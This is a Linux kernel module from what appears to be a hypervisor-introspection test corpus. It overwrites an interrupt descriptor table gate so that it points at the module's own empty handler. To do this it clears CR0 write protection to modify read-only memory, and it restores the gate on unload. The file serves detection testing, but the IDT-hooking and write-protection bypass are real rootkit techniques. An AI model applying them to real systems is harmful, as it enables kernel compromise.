// SPDX-License-Identifier: GPL-2.0
/* Attack: point one IDT gate (vector `vec`, an unused one by default) at the module's own
 * code. The IDT is found with `sidt` (the CPU's read-only alias) and written with CR0.WP
 * cleared; the gate is restored on unload. */
#include <linux/module.h>
#include <asm/desc.h>
#include "attack_common.h"

static int vec = 0xee;
module_param(vec, int, 0444);
static gate_desc *gate;
static gate_desc saved;

static void hvi_fake_handler(void)
{
}

static int __init attack_init(void)
{
	struct desc_ptr idtr;
	gate_desc patched;
	unsigned long h = (unsigned long)hvi_fake_handler;

	if (vec < 32 || vec > 255)
		return -EINVAL;
	store_idt(&idtr);
	gate = (gate_desc *)idtr.address + vec;
	saved = *gate;
	patched = saved;
	patched.offset_low = (u16)h;
	patched.offset_middle = (u16)(h >> 16);
	patched.offset_high = (u32)(h >> 32);
	hvi_attack_poke_ro(gate, &patched, sizeof(patched));
	pr_info("hvi-attack: idt[%#x] at %px -> %lx\n", vec, gate, h);
	return 0;
}

static void __exit attack_exit(void)
{
	if (gate)
		hvi_attack_poke_ro(gate, &saved, sizeof(saved));
	pr_info("hvi-attack: idt restored\n");
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hvi test corpus: IDT gate overwrite");
